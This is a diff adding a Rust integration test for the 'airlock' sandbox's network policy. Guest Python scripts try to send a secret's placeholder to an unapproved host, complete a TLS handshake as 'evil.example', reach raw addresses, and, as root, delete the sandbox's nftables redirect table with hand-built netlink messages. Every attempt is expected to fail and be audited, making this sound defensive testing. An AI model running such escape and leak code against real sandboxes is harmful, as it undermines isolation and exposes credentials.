@@ -1,0 +1,444 @@
+//! Network for sandboxed code, end to end: a real guest's programs reach
+//! test servers on the host's loopback only as the host's policy allows,
+//! and a secret reaches its upstream without entering the guest. Names
+//! resolve through a fixed table (`*.test` → 127.0.0.1), and a CIDR rule
+//! lets them resolve to loopback. One VM serves all the checks, in order:
+//! some change the policy, and the last one breaks the guest's redirect.
+
+// A test panics with its reason; that is what expect is for here.
+#![allow(clippy::expect_used, clippy::unwrap_used)]
+
+use std::net::{IpAddr, Ipv4Addr, SocketAddr};
+use std::process::ExitCode;
+use std::sync::{Arc, Mutex, OnceLock};
+
+use airlock::{
+    NetProtocol, NetRule, NetworkOptions, NetworkPolicy, Refusal, Sandbox, Secret, StaticResolver,
+    Verdict,
+};
+use airlock_tests::shared_vm::{Order, Suite};
+use airlock_tests::stdout_of;
+use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
+use tokio::net::TcpListener;
+
+/// The secret's value: it must reach the upstream and nothing in the guest.
+const SECRET_VALUE: &str = "sk-live-0123456789abcdef-never-in-the-guest";
+
+/// The loopback servers the checks talk to.
+#[derive(Debug)]
+struct Servers {
+    http: SocketAddr,
+    https: SocketAddr,
+    /// Every request head the servers received, in order.
+    heads: Mutex<Vec<String>>,
+}
+
+static SERVERS: OnceLock<Arc<Servers>> = OnceLock::new();
+
+fn servers() -> &'static Servers {
+    SERVERS.get().expect("servers started in boot")
+}
+
+fn heads_containing(needle: &str) -> Vec<String> {
+    let heads = servers().heads.lock().unwrap();
+    heads
+        .iter()
+        .filter(|h| h.contains(needle))
+        .cloned()
+        .collect()
+}
+
+fn main() -> ExitCode {
+    Suite::new(boot, Order::Sequential)
+        .checks(airlock_tests::checks![
+            an_allowed_name_resolves_and_a_refused_one_does_not,
+            plain_http_to_an_allowed_name_works_directly_and_through_the_proxy,
+            https_to_a_secret_bound_host_carries_the_real_secret,
+            a_placeholder_sent_to_another_host_is_blocked,
+            a_wrong_server_name_for_an_allowed_address_is_refused,
+            a_raw_address_and_a_refused_name_reach_nothing,
+            loopback_needs_a_cidr_rule,
+            the_secret_is_nowhere_in_the_guest,
+            guest_root_removing_the_redirect_reaches_nothing_new,
+        ])
+        .run()
+}
+
+fn policy() -> NetworkPolicy {
+    NetworkPolicy::new()
+        .allow("api.test".parse().unwrap())
+        .allow("plain.test".parse().unwrap())
+        .allow("other.test".parse().unwrap())
+        .allow("127.0.0.1/32".parse().unwrap())
+}
+
+async fn boot() -> Sandbox {
+    let (servers, test_ca) = start_servers().await;
+    SERVERS.set(servers).expect("one boot");
+    let loopback = IpAddr::V4(Ipv4Addr::LOCALHOST);
+    let resolver = StaticResolver::new()
+        .with("api.test", loopback)
+        .with("plain.test", loopback)
+        .with("other.test", loopback);
+    let secret = Secret::new("API_KEY", SECRET_VALUE)
+        .expect("secret")
+        .host("api.test");
+    let options = NetworkOptions::new()
+        .policy(policy())
+        .resolver(Arc::new(resolver))
+        .secret(secret)
+        .upstream_root(test_ca);
+    match airlock_tests::builder()
+        .image(airlock_tests::default_image())
+        .network(options)
+        .start()
+        .await
+    {
+        Ok(sandbox) => sandbox,
+        Err(error) => panic!("sandbox did not start: {}", airlock::error_chain(&error)),
+    }
+}
+
+/// An HTTP server and an HTTPS server (for `api.test` and `other.test`,
+/// signed by a test CA) on loopback that record each request head and
+/// answer `ok <path>`.
+async fn start_servers() -> (Arc<Servers>, rustls::pki_types::CertificateDer<'static>) {
+    let http = TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let https = TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let servers = Arc::new(Servers {
+        http: http.local_addr().unwrap(),
+        https: https.local_addr().unwrap(),
+        heads: Mutex::default(),
+    });
+
+    let ca_key = rcgen::KeyPair::generate().unwrap();
+    let mut ca_params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
+    ca_params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
+    let ca = ca_params.self_signed(&ca_key).unwrap();
+    let leaf_key = rcgen::KeyPair::generate().unwrap();
+    let leaf_params =
+        rcgen::CertificateParams::new(vec!["api.test".to_owned(), "other.test".to_owned()])
+            .unwrap();
+    let issuer = rcgen::Issuer::from_params(&ca_params, &ca_key);
+    let leaf = leaf_params.signed_by(&leaf_key, &issuer).unwrap();
+    let config = rustls::ServerConfig::builder_with_provider(Arc::new(
+        rustls::crypto::ring::default_provider(),
+    ))
+    .with_safe_default_protocol_versions()
+    .unwrap()
+    .with_no_client_auth()
+    .with_single_cert(
+        vec![leaf.der().clone()],
+        rustls::pki_types::PrivateKeyDer::try_from(leaf_key.serialize_der()).unwrap(),
+    )
+    .unwrap();
+    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
+
+    let recorder = Arc::clone(&servers);
+    tokio::spawn(async move {
+        loop {
+            let (stream, _) = http.accept().await.unwrap();
+            tokio::spawn(answer(stream, Arc::clone(&recorder)));
+        }
+    });
+    let recorder = Arc::clone(&servers);
+    tokio::spawn(async move {
+        loop {
+            let (stream, _) = https.accept().await.unwrap();
+            let (acceptor, recorder) = (acceptor.clone(), Arc::clone(&recorder));
+            tokio::spawn(async move {
+                if let Ok(tls) = acceptor.accept(stream).await {
+                    answer(tls, recorder).await;
+                }
+            });
+        }
+    });
+    (servers, ca.der().clone())
+}
+
+/// Reads request heads and answers each with `ok <request line>`.
+async fn answer<S: AsyncRead + AsyncWrite + Unpin>(mut stream: S, servers: Arc<Servers>) {
+    let mut buf = Vec::new();
+    let mut chunk = [0u8; 4096];
+    loop {
+        while !buf.windows(4).any(|w| w == b"\r\n\r\n") {
+            match stream.read(&mut chunk).await {
+                Ok(0) | Err(_) => return,
+                Ok(n) => buf.extend_from_slice(&chunk[..n]),
+            }
+        }
+        let end = buf.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4;
+        let head = String::from_utf8_lossy(&buf[..end]).into_owned();
+        buf.drain(..end);
+        let line = head.lines().next().unwrap_or_default().to_owned();
+        servers.heads.lock().unwrap().push(head);
+        let body = format!("ok {line}");
+        let response = format!(
+            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nContent-Type: text/plain\r\n\r\n{body}",
+            body.len()
+        );
+        if stream.write_all(response.as_bytes()).await.is_err() {
+            return;
+        }
+    }
+}
+
+/// Python in the guest; its stdout, trimmed.
+async fn python(sandbox: &Sandbox, code: &str) -> String {
+    let out = sandbox
+        .exec(airlock::Command::new("python3").arg("-c").arg(code))
+        .await
+        .expect("python starts")
+        .output()
+        .await
+        .expect("python output");
+    let stdout = String::from_utf8_lossy(&out.stdout).trim().to_owned();
+    assert!(
+        out.status.success(),
+        "python failed ({:?}): {stdout}\n{}",
+        out.status,
+        String::from_utf8_lossy(&out.stderr)
+    );
+    stdout
+}
+
+fn refusals(sandbox: &Sandbox, name: Option<&str>) -> Vec<Refusal> {
+    sandbox
+        .network_audit()
+        .expect("audit")
+        .into_iter()
+        .filter(|r| r.name.as_deref() == name)
+        .filter_map(|r| match r.verdict {
+            Verdict::Refused(refusal) => Some(refusal),
+            Verdict::Allowed => None,
+        })
+        .collect()
+}
+
+async fn an_allowed_name_resolves_and_a_refused_one_does_not(sandbox: &Sandbox) {
+    let out = python(
+        sandbox,
+        "import socket\n\
+         print(socket.gethostbyname('api.test'))\n\
+         try:\n    socket.gethostbyname('refused.test'); print('resolved')\n\
+         except socket.gaierror as e: print('refused', e.errno)",
+    )
+    .await;
+    let mut lines = out.lines();
+    let addr: Ipv4Addr = lines.next().unwrap().parse().expect("an IPv4 address");
+    assert!(
+        ipnet_contains(addr),
+        "api.test resolved to {addr}, not an address standing for it"
+    );
+    let refused = lines.next().unwrap_or_default();
+    assert!(refused.starts_with("refused"), "{out}");
+    let audit = sandbox.network_audit().unwrap();
+    assert!(audit.iter().any(|r| r.protocol == NetProtocol::Dns
+        && r.name.as_deref() == Some("refused.test")
+        && !r.verdict.is_allowed()));
+}
+
+fn ipnet_contains(addr: Ipv4Addr) -> bool {
+    let [a, b, ..] = addr.octets();
+    a == 198 && (b == 18 || b == 19)
+}
+
+async fn plain_http_to_an_allowed_name_works_directly_and_through_the_proxy(sandbox: &Sandbox) {
+    let port = servers().http.port();
+    // urllib uses the proxy variables the sandbox sets; the opener built
+    // with an empty ProxyHandler connects directly (the redirect).
+    let out = python(
+        sandbox,
+        &format!(
+            "import urllib.request as u\n\
+             print(u.urlopen('http://plain.test:{port}/via-proxy').read().decode())\n\
+             direct = u.build_opener(u.ProxyHandler({{}}))\n\
+             print(direct.open('http://plain.test:{port}/direct').read().decode())"
+        ),
+    )
+    .await;
+    assert_eq!(
+        out, "ok GET /via-proxy HTTP/1.1\nok GET /direct HTTP/1.1",
+        "both requests reach the server in origin form"
+    );
+    let heads = heads_containing("/direct");
+    assert!(heads[0].to_ascii_lowercase().contains("host: plain.test"));
+}
+
+async fn https_to_a_secret_bound_host_carries_the_real_secret(sandbox: &Sandbox) {
+    let port = servers().https.port();
+    let out = python(
+        sandbox,
+        &format!(
+            "import os, urllib.request as u\n\
+             key = os.environ['API_KEY']\n\
+             print(key.startswith('airlock-placeholder-'))\n\
+             r = u.Request('https://api.test:{port}/v1/models', headers={{'Authorization': 'Bearer ' + key}})\n\
+             print(u.urlopen(r).read().decode())\n\
+             direct = u.build_opener(u.ProxyHandler({{}}))\n\
+             print(direct.open(r).read().decode())"
+        ),
+    )
+    .await;
+    assert_eq!(
+        out,
+        "True\nok GET /v1/models HTTP/1.1\nok GET /v1/models HTTP/1.1"
+    );
+    let heads = heads_containing("/v1/models");
+    assert_eq!(heads.len(), 2, "one request through the proxy, one direct");
+    for head in &heads {
+        assert!(
+            head.contains(&format!("Bearer {SECRET_VALUE}")),
+            "the upstream sees the real secret: {head}"
+        );
+        assert!(!head.contains("airlock-placeholder-"), "{head}");
+    }
+}
+
+async fn a_placeholder_sent_to_another_host_is_blocked(sandbox: &Sandbox) {
+    let port = servers().http.port();
+    let out = python(
+        sandbox,
+        &format!(
+            "import os, urllib.request as u, urllib.error as e\n\
+             r = u.Request('http://other.test:{port}/leak', headers={{'X-Key': os.environ['API_KEY']}})\n\
+             try:\n    u.urlopen(r); print('sent')\n\
+             except e.HTTPError as err: print(err.code)"
+        ),
+    )
+    .await;
+    assert_eq!(out, "403");
+    assert!(
+        heads_containing("/leak").is_empty(),
+        "nothing reached the server"
+    );
+    assert!(refusals(sandbox, Some("other.test"))
+        .iter()
+        .any(|r| matches!(r, Refusal::PlaceholderElsewhere { secret } if secret == "API_KEY")));
+}
+
+async fn a_wrong_server_name_for_an_allowed_address_is_refused(sandbox: &Sandbox) {
+    let port = servers().https.port();
+    let out = python(
+        sandbox,
+        &format!(
+            "import socket, ssl\n\
+             ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE\n\
+             s = socket.create_connection(('other.test', {port}), timeout=20)\n\
+             try:\n    ctx.wrap_socket(s, server_hostname='evil.example'); print('handshake done')\n\
+             except (ssl.SSLError, OSError) as err: print('refused')"
+        ),
+    )
+    .await;
+    assert_eq!(out, "refused");
+    assert!(refusals(sandbox, Some("other.test"))
+        .iter()
+        .any(|r| matches!(
+            r,
+            Refusal::ServerNameMismatch { server_name: Some(sn) } if sn == "evil.example"
+        )));
+}
+
+async fn a_raw_address_and_a_refused_name_reach_nothing(sandbox: &Sandbox) {
+    let out = python(
+        sandbox,
+        "import socket\n\
+         for target in [('192.0.2.77', 80), ('93.184.216.34', 443)]:\n\
+         \x20   try:\n\
+         \x20       s = socket.create_connection(target, timeout=20); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\n\
+         \x20       print('reply', s.recv(100))\n\
+         \x20   except OSError as err: print('refused')",
+    )
+    .await;
+    assert_eq!(out, "refused\nrefused", "{out}");
+    let audit = sandbox.network_audit().unwrap();
+    for raw in ["192.0.2.77", "93.184.216.34"] {
+        let addr: IpAddr = raw.parse().unwrap();
+        assert!(
+            audit.iter().any(|r| r.addr == Some(addr)
+                && r.verdict == Verdict::Refused(Refusal::NotAllowed)),
+            "{raw} refused and audited"
+        );
+    }
+}
+
+async fn loopback_needs_a_cidr_rule(sandbox: &Sandbox) {
+    let without_cidr = NetworkPolicy::from_rules(
+        policy()
+            .rules()
+            .iter()
+            .filter(|rule| !matches!(rule, NetRule::Network { .. }))
+            .cloned(),
+    );
+    sandbox.set_network_policy(without_cidr).unwrap();
+    let port = servers().http.port();
+    let out = python(
+        sandbox,
+        &format!(
+            "import urllib.request as u\n\
+             direct = u.build_opener(u.ProxyHandler({{}}))\n\
+             try:\n    direct.open('http://plain.test:{port}/loopback', timeout=20); print('reached')\n\
+             except OSError as err: print('refused')"
+        ),
+    )
+    .await;
+    sandbox.set_network_policy(policy()).unwrap();
+    assert_eq!(out, "refused");
+    assert!(heads_containing("/loopback").is_empty());
+    assert!(refusals(sandbox, Some("plain.test"))
+        .iter()
+        .any(|r| matches!(r, Refusal::RestrictedAddress { .. })));
+}
+
+async fn the_secret_is_nowhere_in_the_guest(sandbox: &Sandbox) {
+    // The needle goes in as two halves, so that no command line, file or
+    // environment of the guest holds the whole value but the shell's own
+    // unexported variable.
+    let (front, back) = SECRET_VALUE.split_at(12);
+    let script = format!(
+        "N='{front}'; N=\"$N\"'{back}'; \
+         env | grep -c -F \"$N\"; \
+         cat /proc/[0-9]*/environ 2>/dev/null | grep -a -c -F \"$N\"; \
+         grep -r -l -F \"$N\" / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev 2>/dev/null | wc -l"
+    );
+    let out = stdout_of(sandbox, &script).await;
+    assert_eq!(
+        out.split_whitespace().collect::<Vec<_>>(),
+        ["0", "0", "0"],
+        "matches in env, /proc/*/environ, files: {out}"
+    );
+}
+
+async fn guest_root_removing_the_redirect_reaches_nothing_new(sandbox: &Sandbox) {
+    let before = servers().heads.lock().unwrap().len();
+    // Root deletes the agent's nftables table with a raw netlink batch,
+    // then tries the servers' addresses and an allowed name's address.
+    let port = servers().http.port();
+    let out = python(
+        sandbox,
+        &format!(
+            "import socket, struct\n\
+             def msg(kind, flags, seq, family, body=b''):\n\
+             \x20   gen = struct.pack('=BBH', family, 0, socket.htons(10) if kind in (16, 17) else 0)\n\
+             \x20   data = gen + body\n\
+             \x20   return struct.pack('=IHHII', 16 + len(data), kind, flags, seq, 0) + data\n\
+             name = b'airlock\\0'\n\
+             attr = struct.pack('=HH', 4 + len(name), 1) + name + b'\\0' * (-len(name) % 4)\n\
+             nl = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)\n\
+             nl.bind((0, 0))\n\
+             nl.send(msg(16, 1, 1, 0) + msg((10 << 8) | 2, 1 | 4, 2, 2, attr) + msg(17, 1, 3, 0))\n\
+             ack = nl.recv(4096)\n\
+             print('deleted', struct.unpack('=i', ack[16:20])[0])\n\
+             addr = '198.18.0.2'\n\
+             for target in [(addr, {port}), ('127.0.0.1', {port}), ('192.0.2.1', 80)]:\n\
+             \x20   try:\n\
+             \x20       s = socket.create_connection(target, timeout=5); s.sendall(b'GET /after-flush HTTP/1.0\\r\\n\\r\\n')\n\
+             \x20       print('reply', s.recv(100))\n\
+             \x20   except OSError: print('nothing')"
+        ),
+    )
+    .await;
+    assert_eq!(out, "deleted 0\nnothing\nnothing\nnothing", "{out}");
+    assert_eq!(servers().heads.lock().unwrap().len(), before);
+    assert!(heads_containing("/after-flush").is_empty());
+}
